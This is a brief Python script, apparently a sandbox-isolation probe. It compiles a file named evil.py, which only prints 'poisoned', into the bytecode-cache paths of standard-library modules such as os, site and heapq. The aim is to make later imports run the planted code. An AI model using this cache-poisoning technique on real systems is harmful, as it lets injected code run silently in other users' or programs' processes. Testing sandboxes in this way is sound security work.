import importlib.util
import os
import py_compile
import sys

# Byte code that stands for a module of the library, where a cache may be.
open("evil.py", "w").write("print('poisoned')\n")
for module in ("os", "site", "random", "math", "heapq", "encodings"):
    spec = importlib.util.find_spec(module)
    for prefix in ("", "/box", "/tmp", "/program"):
        if spec and spec.origin and spec.origin.endswith(".py"):
            cached = prefix + importlib.util.cache_from_source(spec.origin)
            try:
                os.makedirs(os.path.dirname(cached), exist_ok=True)
                py_compile.compile("evil.py", cached, doraise=True)
                if not prefix:
                    print("library", module)
            except OSError:
                pass
import heapq, random
print(sys.dont_write_bytecode, "end")
